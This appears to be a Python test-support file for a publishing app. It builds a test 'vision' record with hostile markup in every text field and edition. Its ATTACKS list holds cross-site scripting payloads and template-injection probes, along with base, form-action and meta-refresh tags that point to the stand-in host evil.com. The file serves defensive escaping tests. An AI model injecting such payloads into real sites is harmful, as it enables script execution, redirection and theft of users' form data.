"""Markup that somebody types or pastes to break a page, and a vision that contains it."""

from editions.document import Text
from editions.publishing import withdraw
from editorial.history.recording import recorded
from tests.support.factories import make_point, make_vision, publish_now
from tests.support.fields import MODELS, texts_of
from vision.models import Term, Vision

ATTACKS = [
    '<script>alert(1)</script>"><img src=x onerror=alert(1)>',
    "<svg><math><mtext><style><img src=x onerror=alert(1)></style></mtext></math></svg>",
    "<a href=\"javascript&colon;alert(1)\">x</a> <base href=//evil.com> <form action='//evil.com'>",
    '<meta http-equiv="refresh" content="0;url=//evil.com"> <p style="position:fixed">',
    "{{ 7|add:7 }} {% debug %} ${7*7} </script></textarea></title>",
]
ENDS = "]> --> <!-- &lt;b&gt; &#x27;&amp;quot; " + ATTACKS[3]


def hostile_vision(attack):
    """A vision with the attack in every text, an edition in force and a withdrawn edition."""
    vision = make_vision(2026, 2030)
    make_point(vision.elements.first(), "Taman")
    make_point(vision.missions.first(), "Taman")
    Term.objects.create(
        vision=vision, term_ind="taman", term_en="park", definition_ind="x", note_ind="x"
    )
    with recorded(vision.pk, "rudi"):
        for row in rows_of(vision):
            for field in texts_of(type(row)):
                if "statement_words" not in field.name and "variants" not in field.name:
                    kept = getattr(row, field.name) if field.name.startswith("statement") else ""
                    setattr(row, field.name, f"{kept} {attack}".strip())
            row.full_clean()
            row.save()
    withdraw(publish_now(vision, note=attack), reason=Text(attack, attack), withdrawn_by="Sri")
    vision.elements.filter(number=1).update(name_ind=f"Lain {attack}")
    publish_now(vision, note=attack)
    return vision


def rows_of(vision):
    for model in MODELS:
        part = getattr(model, "PART", "")
        path = "pk" if model is Vision else f"{part}__vision" if part else "vision"
        yield from model.objects.filter(**{path: vision.pk})
